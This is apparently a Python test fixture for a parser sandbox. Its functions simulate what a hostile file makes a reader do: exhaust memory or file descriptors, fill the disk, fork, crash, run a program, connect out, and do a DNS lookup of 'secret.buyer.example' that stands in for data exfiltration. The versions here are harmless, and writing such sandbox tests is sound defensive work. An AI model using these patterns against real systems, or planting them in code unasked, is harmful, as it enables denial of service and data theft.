"""What a hostile file makes its reader do; the child that reads imports this room, so it needs nothing."""

import os
import socket
import subprocess
import tempfile


def hoard(megabytes: int) -> int:
    """What a file that unpacks without end does."""
    return len(bytearray(megabytes * 1_000_000))


def die() -> None:
    """What a fault in a library written in C does."""
    os._exit(139)


def stumble() -> None:
    """What a reader does that has a mistake in it."""
    raise ValueError("an odd file")


def call_home() -> None:
    """What a reader does that a file took over."""
    socket.create_connection(("127.0.0.1", 9), timeout=1)


def look_up() -> None:
    """The same by a name that carries what it tells."""
    socket.getaddrinfo("secret.buyer.example", 80)


def start_a_program() -> None:
    """The same on this machine."""
    subprocess.run(["true"], check=True)


def split_in_two() -> None:
    """What outlives its own time limit."""
    os.fork()


def fill_the_disk() -> None:
    """What a file that unpacks to the disk does."""
    with tempfile.TemporaryFile() as file:
        file.write(bytes(40_000_000))


def open_everything() -> None:
    """What leaves nothing for others to open."""
    for _ in range(1_000):
        os.open(os.devnull, os.O_RDONLY)
